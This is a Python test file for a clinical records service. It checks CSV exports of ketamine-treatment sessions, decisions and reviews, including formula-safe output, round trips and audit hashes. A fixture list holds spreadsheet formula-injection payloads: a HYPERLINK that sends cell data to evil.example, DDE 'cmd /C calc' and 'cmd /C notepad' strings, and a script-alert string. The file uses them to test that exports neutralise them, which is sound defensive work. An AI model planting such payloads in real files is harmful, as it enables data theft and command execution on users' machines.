"""Exports: the records.md formats, formula-safe text, the round trip, the audit."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date

import pytest
from sqlalchemy import Engine, select

from models.tables import session_table
from redflags.fields import DECISION_COLUMNS, REVIEW_COLUMNS, SESSION_COLUMNS
from services import records
from tests.records.conftest import (
    CLINICIAN,
    GOOD_DECISION,
    UTC_ZONE,
    audit_details,
    clinical_counts,
    export_sessions,
    import_decisions,
    import_sessions,
    session,
    sessions_file,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "<script>alert('x')</script>",
    "\tstarts with a tab",
    "'=already quoted once",
    "=1\n=2",
)


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_the_sessions_export_has_the_records_md_header_and_line_ends(engine: Engine) -> None:
    import_sessions(engine, sessions_file(session()))
    data = export_sessions(engine).data
    assert data.startswith(",".join(SESSION_COLUMNS).encode() + b"\r\n")
    assert not data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 2


def test_numbers_are_written_canonically_and_blanks_stay_empty(engine: Engine) -> None:
    rows = [
        session(
            patient_id="A", dose_mg="56.0", weight_kg="70.50", panic="08", grief="", grief_course=""
        ),
        session(patient_id="B", route="ketamine_iv", dose_mg="37.5", weight_kg="0070"),
    ]
    assert import_sessions(engine, sessions_file(*rows)).ok
    a, b = (
        dict(zip(SESSION_COLUMNS, row, strict=True))
        for row in rows_of(export_sessions(engine).data)[1:]
    )
    assert (a["dose_mg"], a["weight_kg"], a["panic"], a["grief"]) == ("56", "70.5", "8", "")
    assert (b["dose_mg"], b["weight_kg"]) == ("37.5", "70")


def test_dates_are_written_as_given_date_alone_or_time_with_seconds_only_if_any(
    engine: Engine,
) -> None:
    rows = [
        session(session_date="2026-11-01"),
        session(session_date="2026-11-02T09:30:00"),
        session(session_date="2026-11-03T09:30:15"),
    ]
    import_sessions(engine, sessions_file(*rows))
    written = [row[1] for row in rows_of(export_sessions(engine).data)[1:]]
    assert written == ["2026-11-01", "2026-11-02T09:30", "2026-11-03T09:30:15"]


def test_times_are_exported_in_the_clinic_zone(engine: Engine) -> None:
    from zoneinfo import ZoneInfo

    london = ZoneInfo("Europe/London")
    import_sessions(engine, sessions_file(session(session_date="2026-07-01T09:30")), tz=london)
    in_london = records.export_sessions(engine=engine, actor=CLINICIAN, tz=london).data
    in_utc = export_sessions(engine).data
    assert rows_of(in_london)[1][1] == "2026-07-01T09:30"
    assert rows_of(in_utc)[1][1] == "2026-07-01T08:30"


def test_sessions_are_ordered_by_patient_code_then_time(engine: Engine) -> None:
    rows = [
        session(patient_id="b", session_date="2026-11-05"),
        session(patient_id="B", session_date="2026-11-09"),
        session(patient_id="a", session_date="2026-11-07"),
        session(patient_id="B", session_date="2026-11-01T18:00"),
        session(patient_id="a", session_date="2026-11-01"),
    ]
    import_sessions(engine, sessions_file(*rows))
    order = [(row[0], row[1]) for row in rows_of(export_sessions(engine).data)[1:]]
    assert order == [
        ("B", "2026-11-01T18:00"),
        ("B", "2026-11-09"),
        ("a", "2026-11-01"),
        ("a", "2026-11-07"),
        ("b", "2026-11-05"),
    ]


def test_one_patient_and_an_as_of_date_narrow_the_export(engine: Engine) -> None:
    rows = [
        session(patient_id="A", session_date="2026-11-01"),
        session(patient_id="A", session_date="2026-11-10T23:59"),
        session(patient_id="A", session_date="2026-11-11"),
        session(patient_id="B", session_date="2026-11-01"),
    ]
    import_sessions(engine, sessions_file(*rows))
    result = export_sessions(engine, patient="A", as_of=date(2026, 11, 10))
    assert [row[:2] for row in rows_of(result.data)[1:]] == [
        ["A", "2026-11-01"],
        ["A", "2026-11-10T23:59"],
    ]
    assert result.rows == 2


def test_an_unknown_patient_is_an_error_not_an_empty_file(engine: Engine) -> None:
    with pytest.raises(records.RecordsError, match="no patient has the code 'nobody'"):
        export_sessions(engine, patient="nobody")
    with pytest.raises(records.RecordsError, match="patient code"):
        export_sessions(engine, patient="two words")


def test_hostile_text_is_stored_verbatim_and_exported_neutralised(engine: Engine) -> None:
    rows = [
        session(session_date=f"2026-11-{n + 1:02d}", note=text, commitment=text)
        for n, text in enumerate(HOSTILE)
    ]
    assert import_sessions(engine, sessions_file(*rows)).ok
    with engine.connect() as connection:
        stored = list(
            connection.execute(
                select(session_table.c.note).order_by(session_table.c.session_at)
            ).scalars()
        )
    # The import took exactly one added quote off the cell that carried one.
    assert stored == [*HOSTILE[:6], "=already quoted once", HOSTILE[7]]
    exported = [row[-1] for row in rows_of(export_sessions(engine).data)[1:]]
    assert exported == [
        "'" + HOSTILE[0],
        "'" + HOSTILE[1],
        "'" + HOSTILE[2],
        "'-2+3",
        "<script>alert('x')</script>",  # not a formula: left alone
        "'\tstarts with a tab",
        "'=already quoted once",
        "'=1\n=2",
    ]
    assert all(cell[0] not in "=+-@\t\r\n" for cell in exported)


def test_the_round_trip_export_import_export_is_byte_identical(
    engine: Engine, tmp_path: object
) -> None:
    rows = [
        session(patient_id="-007", note=HOSTILE[3], weight_kg="80.25"),
        session(patient_id="NA", session_date="2026-11-01", note='line\r\nbreak, "quoted"'),
        session(patient_id="NA", session_date="2026-11-03T07:05:09", note="", commitment=""),
        session(patient_id="x.y_z", route="ketamine_oral", dose_mg="0.5", note="'=x"),
    ]
    assert import_sessions(engine, sessions_file(*rows)).ok
    first = export_sessions(engine).data

    from models.db import create_db_engine, upgrade

    other = create_db_engine(f"sqlite:///{tmp_path}/other.db")
    upgrade(other)
    try:
        assert import_sessions(other, first).ok
        second = export_sessions(other).data
    finally:
        other.dispose()
    assert second == first


def test_exports_are_audited_with_what_rows_and_hash(engine: Engine) -> None:
    import_sessions(engine, sessions_file(session(), session(patient_id="B")))
    everything = export_sessions(engine, destination="out.csv")
    one = export_sessions(engine, patient="B", as_of=date(2026, 11, 20))
    rows = audit_details(engine, "records_export")
    assert [(r["what"], r["patient"], r["as_of"], r["rows"]) for r in rows] == [
        ("sessions", None, None, 2),
        ("sessions", "B", "2026-11-20", 1),
    ]
    assert rows[0]["sha256"] == hashlib.sha256(everything.data).hexdigest() == everything.sha256
    assert rows[1]["sha256"] == one.sha256 and rows[0]["destination"] == "out.csv"


def test_the_decisions_export_has_its_format_and_round_trips(engine: Engine) -> None:
    import_sessions(engine, sessions_file(session(), session(patient_id="-5")))
    decisions = [
        GOOD_DECISION,
        {
            **GOOD_DECISION,
            "patient_id": "-5",
            "decided_at": "2026-11-04T08:00:30.250000",
            "rationale": "=not a formula",
            "route_to": "",
            "dose_to_mg": "",
            "decision": "pause",
        },
    ]
    data = b"".join(
        [
            ",".join(DECISION_COLUMNS).encode() + b"\r\n",
            *(
                (",".join(_quote(d.get(c, "")) for c in DECISION_COLUMNS) + "\r\n").encode()
                for d in decisions
            ),
        ]
    )
    assert import_decisions(engine, data).ok
    first = records.export_decisions(engine=engine, actor=CLINICIAN, tz=UTC_ZONE).data
    rows = rows_of(first)
    assert rows[0] == list(DECISION_COLUMNS)
    assert rows[1][:3] == ["'-5", "2026-11-04T08:00:30.250000", "pause"]
    assert rows[1][DECISION_COLUMNS.index("rationale")] == "'=not a formula"
    assert rows[2][:2] == ["P-001", "2026-11-03T16:00"]
    assert rows[2][DECISION_COLUMNS.index("dose_from_mg")] == "40"
    # Importing the export again changes nothing: it is the same decisions.
    again = import_decisions(engine, first)
    assert (again.imported, again.unchanged) == (0, 2)


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text


def test_the_review_export_has_one_row_per_patient_in_records_md_columns(engine: Engine) -> None:
    rows = [
        session(patient_id="-A", session_date="2026-11-01", phq9="20", phq9_item9="0"),
        session(patient_id="-A", session_date="2026-11-08", phq9="9", phq9_item9="0"),
        session(
            patient_id="B",
            session_date="2026-09-01",
            route="ketamine_iv",
            dose_mg="35",
            phq9_item9="2",
        ),
    ]
    assert import_sessions(engine, sessions_file(*rows)).ok
    result = records.export_review(engine=engine, actor=CLINICIAN, as_of=date(2026, 11, 20))
    table = rows_of(result.data)
    assert table[0] == list(REVIEW_COLUMNS)
    by_patient = {row[0]: dict(zip(REVIEW_COLUMNS, row, strict=True)) for row in table[1:]}
    assert set(by_patient) == {"'-A", "B"}  # "-A" is text: neutralised
    a, b = by_patient["'-A"], by_patient["B"]
    assert a["phq9_change"] == "-0.55"  # a number: never altered
    assert (a["phq9_baseline"], a["phq9_latest"], a["dose_mg"]) == ("20", "9", "56")
    assert a["stale"] == "false" and b["stale"] == "true"
    assert b["status"] == "urgent" and b["safety_flags"].startswith("suicidality")
    assert [row[0] for row in table[1:]] == ["B", "'-A"]  # weekly-review order: urgent first
    assert result.rows == 2
    assert audit_details(engine, "records_export")[-1]["what"] == "review"


def test_the_review_export_of_one_patient(engine: Engine) -> None:
    import_sessions(engine, sessions_file(session(), session(patient_id="B")))
    result = records.export_review(
        engine=engine, actor=CLINICIAN, as_of=date(2026, 11, 20), patient="B"
    )
    assert [row[0] for row in rows_of(result.data)[1:]] == ["B"]


def test_a_viewer_may_not_export(engine: Engine) -> None:
    from redflags.codes import Role
    from services.access import Actor, PermissionDenied

    before = clinical_counts(engine)
    with pytest.raises(PermissionDenied):
        records.export_sessions(engine=engine, actor=Actor("v", Role.VIEWER))
    assert clinical_counts(engine) == before
    assert audit_details(engine, "records_export") == []
